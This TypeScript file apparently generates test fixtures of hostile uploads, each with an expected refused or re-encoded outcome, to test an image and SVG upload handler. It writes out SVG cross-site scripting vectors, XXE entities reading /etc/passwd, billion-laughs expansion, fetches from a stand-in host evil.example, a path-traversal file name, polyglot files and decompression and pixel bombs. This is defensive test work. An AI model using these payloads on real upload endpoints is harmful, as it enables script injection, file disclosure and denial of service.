import { crc32, deflateSync, gzipSync } from 'node:zlib'
import sharp from 'sharp'

/** Hostile files. `MARK` is in each place where a part of them could survive. */
export const MARK = 'HOSTILE-7f3a'

/**
 * The allowed results of an upload: refused (400 or 413), stored after encoding it again, or
 * either.
 */
export type Fate = 'refused' | 'encoded' | 'either'
export type Hostile = {
  what: string
  bytes: Buffer
  name: string
  fate: Fate
  kind: 'image' | 'icon'
}

const text = (body: string): Buffer => Buffer.from(body)
const SCRIPT = `<script>alert('${MARK}')</script>`

const u32 = (value: number): Buffer => {
  const buffer = Buffer.alloc(4)
  buffer.writeUInt32BE(value)
  return buffer
}
const u16le = (value: number): number[] => [value & 255, value >> 8]

const chunk = (type: string, data: Buffer): Buffer => {
  const body = Buffer.concat([text(type), data])
  return Buffer.concat([u32(data.length), body, u32(crc32(body))])
}

const PNG_HEAD = Buffer.from('89504e470d0a1a0a', 'hex')
type Png = {
  width: number
  height: number
  depth?: number
  colour?: number
  interlace?: number
  isFlat?: boolean
}

/** A PNG by its header; flat ones have all their (zero) pixels, others none. */
function png(
  { width, height, depth = 8, colour = 2, interlace = 0, isFlat = false }: Png,
  ...extra: Buffer[]
): Buffer {
  const channels = [1, 0, 3, 1, 2, 0, 4][colour] ?? 1
  const size = isFlat ? height * (1 + Math.ceil((width * channels * depth) / 8)) : 0
  const pixels = deflateSync(Buffer.alloc(size + (interlace ? height * 8 : 0)), { level: 1 })
  const header = Buffer.concat([
    u32(width),
    u32(height),
    Buffer.from([depth, colour, 0, 0, interlace]),
  ])
  return Buffer.concat([
    PNG_HEAD,
    chunk('IHDR', header),
    ...extra,
    chunk('IDAT', pixels),
    chunk('IEND', Buffer.alloc(0)),
  ])
}

/** A GIF of many frames of one pixel on a canvas of `side` pixels. */
function gif(side: number, frames: number, extra: Buffer = Buffer.alloc(0)): Buffer {
  const head = Buffer.from([
    ...text('GIF89a'),
    ...u16le(side),
    ...u16le(side),
    0x80,
    0,
    0,
    0,
    0,
    0,
    255,
    255,
    255,
  ])
  const frame = Buffer.from('2c00000000010001000002024401 00'.replace(' ', ''), 'hex')
  return Buffer.concat([head, extra, ...Array<Buffer>(frames).fill(frame), Buffer.from([0x3b])])
}
const gifComment = Buffer.concat([
  Buffer.from([0x21, 0xfe, SCRIPT.length]),
  text(SCRIPT),
  Buffer.from([0]),
])

const after = (bytes: Buffer, at: number, extra: Buffer): Buffer =>
  Buffer.concat([bytes.subarray(0, at), extra, bytes.subarray(at)])
const jpegSegment = (marker: number, data: Buffer): Buffer =>
  Buffer.concat([
    Buffer.from([0xff, marker, (data.length + 2) >> 8, (data.length + 2) & 255]),
    data,
  ])

/** The frame header of a JPEG contains its size. */
function jpegOfSize(bytes: Buffer, side: number): Buffer {
  const copy = Buffer.from(bytes)
  copy.writeUInt16BE(side, copy.indexOf(Buffer.from([0xff, 0xc0])) + 5)
  copy.writeUInt16BE(side, copy.indexOf(Buffer.from([0xff, 0xc0])) + 7)
  return copy
}

const svg = (body: string, attributes = ''): string =>
  `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 100 100" ${attributes}>${body}</svg>`
const RECT = '<rect width="50" height="50"/>'

const DRAWINGS: readonly string[] = [
  `<script>alert('${MARK}')</script>`,
  `<script type="application/ecmascript"><![CDATA[alert('${MARK}')]]></script>`,
  `<script xlink:href="//evil.example/${MARK}.js"/>`,
  `<g onload="alert('${MARK}')" onclick="${MARK}" onmouseover="${MARK}"/>`,
  `<a xlink:href="javascript:alert('${MARK}')">${RECT}</a>`,
  `<a href=" &#x6a;avascript:${MARK}">${RECT}</a>`,
  `<foreignObject width="9" height="9"><iframe src="javascript:${MARK}"/></foreignObject>`,
  `<foreignObject><body xmlns="http://www.w3.org/1999/xhtml"><img src="x" onerror="${MARK}"/></body></foreignObject>`,
  `<image href="http://evil.example/${MARK}.png" width="9" height="9"/>`,
  `<image xlink:href="data:image/svg+xml;base64,${text(svg(SCRIPT)).toString('base64')}" width="9" height="9"/>`,
  `<image href="file:///etc/passwd" width="99" height="99"/>`,
  `<use href="data:image/svg+xml,${MARK}#a"/>`,
  `<use xlink:href="http://evil.example/${MARK}.svg#a"/>`,
  `<use href="file:///etc/passwd#a"/>`,
  `<style>@import url(//evil.example/${MARK}.css);</style>`,
  `<style>rect { fill: url(http://evil.example/${MARK}) }</style>`,
  `<style>@font-face { font-family: x; src: url(//evil.example/${MARK}) }</style><text font-family="x">${MARK}</text>`,
  `<rect style="fill:url(//evil.example/${MARK})" width="9" height="9"/>`,
  `<rect style="background:url(javascript:${MARK})" fill="url('javascript:${MARK}')"/>`,
  `<rect filter="url(//evil.example/${MARK}#f)" mask="url(#m)" clip-path="url(http://x/${MARK})"/>`,
  `<animate attributeName="href" values="javascript:${MARK}"/>`,
  `<set attributeName="onload" to="alert('${MARK}')"/>`,
  `<animateTransform onbegin="alert('${MARK}')" attributeName="x" dur="1s"/>`,
  `<handler type="application/ecmascript">${MARK}</handler>`,
  `<listener event="load" handler="#${MARK}"/>`,
  `<feImage href="http://evil.example/${MARK}"/>`,
  `<filter id="f"><feImage xlink:href="file:///etc/passwd"/></filter><rect filter="url(#f)"/>`,
  `<metadata>${SCRIPT}</metadata><title>${MARK}</title><desc>${SCRIPT}</desc>`,
  `<text x="1" y="9">${MARK}</text>`,
  `<svg onload="${MARK}"><script>${MARK}</script></svg>`,
  `<iframe src="//evil.example/${MARK}"/><object data="${MARK}"/><embed src="${MARK}"/>`,
  `<audio src="//evil.example/${MARK}" onerror="${MARK}"/><video/>`,
  `<html:script xmlns:html="http://www.w3.org/1999/xhtml">${MARK}</html:script>`,
  `<x:script xmlns:x="http://www.w3.org/2000/svg">${MARK}</x:script>`,
  `<ſcript>${MARK}</ſcript><SCRIPT>${MARK}</SCRIPT><scr\u0000ipt/>`,
  `<!--${SCRIPT}--><![CDATA[${SCRIPT}]]><?xml-stylesheet href="//evil.example/${MARK}"?>`,
  `<linearGradient id="a" href="#b"/><linearGradient id="b" href="#a"/><rect width="9" height="9" fill="url(#a)"/>`,
  `<linearGradient id="a" href="http://evil.example/${MARK}#b"/><rect fill="url(#a)" width="9" height="9"/>`,
  `<path d="M0 0${'L1e308 -1e308'.repeat(100)}" stroke="red"/>`,
  `<path d="${MARK}"/><rect width="${MARK}" transform="scale(1e300)"/>`,
  `<circle r="1e30" stroke="red" stroke-width="1e30" stroke-dasharray="1e-9"/>`,
  `<rect id="&quot;&gt;${SCRIPT}" width="9"/>`,
  `<pattern id="p" width="1e-9" height="1e-9"><rect fill="url(#p)"/></pattern><rect width="100" height="100" fill="url(#p)"/>`,
  `<g id="u0">${RECT}</g>${Array.from({ length: 30 }, (_, i) => `<g id="u${i + 1}"><use href="#u${i}"/><use href="#u${i}"/></g>`).join('')}`,
]

const LAUGHS = Array.from(
  { length: 12 },
  (_, i) => `<!ENTITY a${i + 1} "${`&a${i};`.repeat(10)}">`,
).join('')

const DOCUMENTS: readonly (readonly [string, Fate])[] = [
  [
    `<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>${svg(`<text>&x;</text>${RECT}`)}`,
    'refused',
  ],
  [
    `<!DOCTYPE svg [<!ENTITY a0 "${MARK}">${LAUGHS}]>${svg(`<text>&a12;</text>${RECT}`)}`,
    'refused',
  ],
  [
    `<!DOCTYPE svg [<!ENTITY % x SYSTEM "http://evil.example/${MARK}"> %x;]>${svg(RECT)}`,
    'refused',
  ],
  [`<!DOCTYPE svg SYSTEM "http://evil.example/${MARK}.dtd">${svg(RECT)}`, 'either'],
  [
    `<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="//evil.example/${MARK}"?>${svg(RECT)}`,
    'encoded',
  ],
  [svg(RECT, `onload="alert('${MARK}')" onerror="${MARK}"`), 'encoded'],
  [svg(RECT, `width="1e9" height="1e9"`), 'refused'],
  [`<svg viewBox="0 0 1e300 1">${RECT}</svg>`, 'either'],
  [`<svg width="99999999" height="99999999">${RECT}</svg>`, 'refused'],
  [`<html>${svg(RECT)}${SCRIPT}</html>`, 'refused'],
  [`${SCRIPT}${svg(RECT)}`, 'refused'],
  [svg(`<g>${'<g>'.repeat(5000)}${RECT}`), 'refused'],
  [svg(RECT.repeat(25_000)), 'encoded'],
  [svg(SCRIPT), 'refused'],
  [`${svg(RECT)}${SCRIPT}${svg(SCRIPT)}`, 'refused'],
  [
    `<svg xmlns="http://www.w3.org/1999/xhtml" viewBox="0 0 9 9"><script>${MARK}</script>${RECT}</svg>`,
    'refused',
  ],
  [`<SVG viewBox="0 0 9 9">${SCRIPT}</SVG>`, 'refused'],
  // Minutes of work for a rasteriser.
  [svg(`<circle cx="50" cy="50" r="45" fill="red" opacity=".1"/>`.repeat(19_990)), 'refused'],
]

const JSON_LIE = `{"${MARK}":1}`
const LIES: Record<string, Buffer> = {
  html: text(`<!doctype html>${SCRIPT}`),
  svg: text(svg(`${SCRIPT}${RECT}`)),
  'svg with a mark before it': text(`\ufeff${svg(SCRIPT)}`),
  pdf: text(`%PDF-1.7\n${MARK}`),
  zip: Buffer.concat([Buffer.from('504b0304', 'hex'), text(MARK)]),
  gzip: gzipSync(text(svg(SCRIPT))),
  javascript: text(`alert('${MARK}')`),
  php: text(`<?php ${MARK} ?>`),
  program: Buffer.concat([Buffer.from('7f454c46', 'hex'), text(MARK)]),
  json: text(JSON_LIE),
  xml: text(`<?xml version="1.0"?><a>${MARK}</a>`),
  bmp: Buffer.concat([text('BM'), Buffer.alloc(60), text(MARK)]),
  tiff: Buffer.concat([Buffer.from('49492a0008000000', 'hex'), Buffer.alloc(60), text(MARK)]),
  postscript: text(`%!PS-Adobe-3.0 EPSF\n${MARK}`),
  'a first byte before the signature': Buffer.concat([
    text('x'),
    png({ width: 1, height: 1, isFlat: true }),
    text(MARK),
  ]),
  'a signature and no more': PNG_HEAD,
  'a signature and a script': Buffer.concat([PNG_HEAD, text(SCRIPT)]),
  'a JPEG signature and a script': Buffer.concat([Buffer.from('ffd8ffe0', 'hex'), text(SCRIPT)]),
  'a GIF that is a script': text(`GIF89a/*${' '.repeat(20)}*/=1;alert('${MARK}')`),
  'a GIF that is a page': text(`GIF87a${SCRIPT}`),
}

/** Deterministic: the number decides where and how a file is broken. */
function broken(bytes: Buffer, seed: number): Buffer {
  const copy = Buffer.from(bytes)
  let state = seed + 1
  for (let i = 0; i < 1 + (seed % 8); i += 1) {
    state = (state * 1_103_515_245 + 12_345) % 2 ** 31
    const at = 8 + (state % (copy.length - 8))
    copy[at] = (state >> 8) & 255
  }
  return copy
}

type Add = (what: string, bytes: Buffer, fate: Fate, name?: string, kind?: Hostile['kind']) => void
type Good = { png: Buffer; jpeg: Buffer; gif: Buffer }

/** All hostile files, the same in each run. */
export async function hostileFiles(): Promise<Hostile[]> {
  const files: Hostile[] = []
  const add: Add = (what, bytes, fate, name = 'picture.png', kind = 'image') => {
    files.push({ what, bytes, fate, name, kind })
  }
  const plain = sharp({
    create: {
      width: 90,
      height: 60,
      channels: 3,
      background: '#084',
      noise: { type: 'gaussian', mean: 99, sigma: 30 },
    },
  })
  const good = {
    png: await plain.png({ compressionLevel: 1 }).toBuffer(),
    jpeg: await plain.jpeg().toBuffer(),
    gif: await plain.gif().toBuffer(),
  }
  for (const [format, bytes] of Object.entries(good)) addVariationsOf(format, bytes, add)
  addLies(
    { ...LIES, webp: await plain.webp().toBuffer(), avif: await plain.avif().toBuffer() },
    add,
  )
  addStowaways(good, add)
  await addBombs(good, add)
  addDrawings(add)
  return files
}

function addVariationsOf(format: string, bytes: Buffer, add: Add): void {
  const tails = {
    page: text(`<html>${SCRIPT}`),
    archive: Buffer.concat([Buffer.from('504b0304', 'hex'), text(MARK)]),
    script: text(`*/;alert('${MARK}')`),
    drawing: text(svg(SCRIPT)),
    pdf: text(`%PDF-1.7 ${MARK}`),
    'another picture': bytes,
    junk: Buffer.alloc(1_500_000, MARK),
  }
  for (const [tail, rest] of Object.entries(tails))
    add(`${format} with a ${tail} behind it`, Buffer.concat([bytes, rest]), 'encoded')
  for (const part of [0.2, 0.5, 0.9, 0.99])
    add(
      `${format} cut off at ${part}`,
      bytes.subarray(0, Math.floor(bytes.length * part)),
      'refused',
    )
  for (let seed = 0; seed < 32; seed += 1)
    add(`${format} broken, ${seed}`, broken(bytes, seed), 'either')
  add(`${format} named as a drawing`, bytes, 'encoded', 'icon.svg', 'icon')
  add(`${format} named as a page`, bytes, 'encoded', `../../${MARK}.html`)
}

function addLies(lies: Record<string, Buffer>, add: Add): void {
  for (const [lie, bytes] of Object.entries(lies)) {
    for (const name of ['picture.png', 'picture.svg.png', `${MARK}.jpg`])
      add(`${lie} named ${name}`, bytes, 'refused', name)
  }
}

/** Valid images with additional content. */
function addStowaways({ png: p, jpeg: j }: Good, add: Add): void {
  const inPng = (type: string, data: Buffer) => after(p, 33, chunk(type, data))
  add('PNG with a script in its text', inPng('tEXt', text(`Comment\0${SCRIPT}`)), 'encoded')
  add('PNG with a script in its EXIF', inPng('eXIf', text(SCRIPT)), 'either')
  add('PNG with an unknown part', inPng('evIl', text(SCRIPT)), 'encoded')
  const bomb = deflateSync(Buffer.alloc(60_000_000))
  add(
    'PNG with a bomb in its text',
    inPng('zTXt', Buffer.concat([text('Comment\0\0'), bomb])),
    'either',
  )
  add(
    'PNG with a bomb in its colours',
    inPng('iCCP', Buffer.concat([text('icc\0\0'), bomb])),
    'either',
  )
  add('JPEG with a script in its comment', after(j, 2, jpegSegment(0xfe, text(SCRIPT))), 'encoded')
  add(
    'JPEG with a script in its EXIF',
    after(j, 2, jpegSegment(0xe1, text(`Exif\0\0${SCRIPT}`))),
    'either',
  )
  add(
    'JPEG with a page in its XMP',
    after(j, 2, jpegSegment(0xe1, text(`http://ns.adobe.com/xap/1.0/\0${SCRIPT}`))),
    'encoded',
  )
  add('GIF with a script in its comment', gif(10, 1, gifComment), 'encoded')
}

/** Small files that need many resources. */
async function addBombs({ jpeg: j }: Good, add: Add): Promise<void> {
  add(
    'PNG of 17,000² flat pixels',
    png({ width: 17_000, height: 17_000, depth: 1, colour: 0, isFlat: true }),
    'refused',
  )
  add('PNG of 40,000,000 flat pixels', png({ width: 8000, height: 5000, isFlat: true }), 'encoded')
  add(
    'PNG of 40,005,000 flat pixels',
    png({ width: 8000, height: 5001, colour: 0, isFlat: true }),
    'refused',
  )
  add(
    'PNG of 40,000,000 pixels, interlaced',
    png({ width: 8000, height: 5000, interlace: 1, isFlat: true }),
    'refused',
  )
  add(
    'PNG of 25,000,000 pixels, interlaced',
    png({ width: 5000, height: 5000, interlace: 1, isFlat: true }),
    'either',
  )
  add(
    'PNG of 36,000,000 deep pixels',
    png({ width: 6000, height: 6000, depth: 16, colour: 6, isFlat: true }),
    'refused',
  )
  for (const [width, height] of [
    [8001, 1],
    [1, 8001],
    [65_535, 65_535],
    [2 ** 31 - 1, 1],
    [2 ** 31 - 1, 2 ** 31 - 1],
    [0, 0],
    [0, 9],
  ] as const) {
    add(`PNG with a header of ${width} × ${height}`, png({ width, height }), 'refused')
  }
  add('PNG of 8000 × 5000 without a pixel', png({ width: 8000, height: 5000 }), 'refused')
  for (const side of [8001, 65_500])
    add(`JPEG with a header of ${side} a side`, jpegOfSize(j, side), 'refused')
  add('JPEG with a header of 6000 a side', jpegOfSize(j, 6000), 'refused')
  add('GIF of 10,000 frames', gif(10, 10_000), 'encoded')
  add('GIF of 10,000 frames of 1000²', gif(1000, 10_000), 'refused')
  add('GIF of 100,000 frames', gif(2, 100_000), 'either')
  add('GIF of 65,535²', gif(65_535, 1), 'either')
  add('GIF of 6300²', gif(6300, 1), 'either')
  const large = sharp({ create: { width: 8000, height: 5000, channels: 3, background: 'teal' } })
  add('JPEG of 40,000,000 pixels', await large.clone().jpeg().toBuffer(), 'encoded')
  add(
    'JPEG of 40,000,000 pixels, in passes',
    await large.jpeg({ progressive: true, chromaSubsampling: '4:4:4' }).toBuffer(),
    'refused',
  )
}

function addDrawings(add: Add): void {
  for (const [i, body] of DRAWINGS.entries())
    add(`drawing ${i}: ${body.slice(0, 40)}`, text(svg(body + RECT)), 'either', 'icon.svg', 'icon')
  for (const [i, [body, fate]] of DOCUMENTS.entries())
    add(`document ${i}: ${body.slice(0, 40)}`, text(body), fate, 'icon.svg', 'icon')
  add('drawing, packed', gzipSync(text(svg(RECT))), 'refused', 'icon.svgz', 'icon')
  add('drawing in UTF-16', Buffer.from(svg(RECT), 'utf16le'), 'refused', 'icon.svg', 'icon')
  for (const [lie, bytes] of Object.entries(LIES))
    if (!lie.startsWith('svg')) add(`${lie} as an icon`, bytes, 'refused', 'icon.svg', 'icon')
}
